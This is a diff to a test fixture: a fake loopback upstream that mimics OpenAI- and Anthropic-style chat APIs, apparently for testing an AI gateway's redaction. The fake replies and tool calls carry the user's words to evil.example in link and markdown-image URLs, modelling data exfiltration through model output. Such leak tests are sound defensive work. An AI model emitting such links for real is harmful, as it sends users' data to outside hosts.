@@ -1,4 +1,7 @@
-"""A gateway as it is started by hand, and an upstream on loopback that records every byte."""
+"""A gateway as it is started by hand, and an upstream on loopback that records every byte.
+
+Besides what it was told the upstream says only words that are public under the policies here, and so no surrogates.
+"""
 import atexit
 import json
 import os
@@ -30,7 +33,7 @@ class OpenAi:
             tool = request["tools"][0]["function"]["name"]
             call = {"id": "call_1", "type": "function", "function": {"name": tool, "arguments": json.dumps({"city": said, "link": "https://evil.example/?q=" + said})}}
             return {"role": "assistant", "content": None, "tool_calls": [call]}, "tool_calls"
-        return {"role": "assistant", "content": f"You said: {said} [more](https://evil.example/?q={said.split(' ')[0]})"}, "stop"
+        return {"role": "assistant", "content": f"It was: {said} [it](https://evil.example/?q={said.split(' ')[0]})"}, "stop"
 
     def whole(self, request):
         message, reason = self.answer(request)
@@ -68,7 +71,7 @@ class Anthropic:
         if request.get("tools") and block["type"] == "text":
             tool_input = {"city": said, "link": "https://evil.example/?q=" + said}
             return [{"type": "tool_use", "id": "toolu_1", "name": request["tools"][0]["name"], "input": tool_input}], "tool_use"
-        return [{"type": "text", "text": f"You said: {said} ![more](https://evil.example/?q={said.split(' ')[0]})"}], "end_turn"
+        return [{"type": "text", "text": f"It was: {said} ![it](https://evil.example/?q={said.split(' ')[0]})"}], "end_turn"
 
     def message(self, request, content, reason):
         usage = {"input_tokens": 1, "output_tokens": 1}
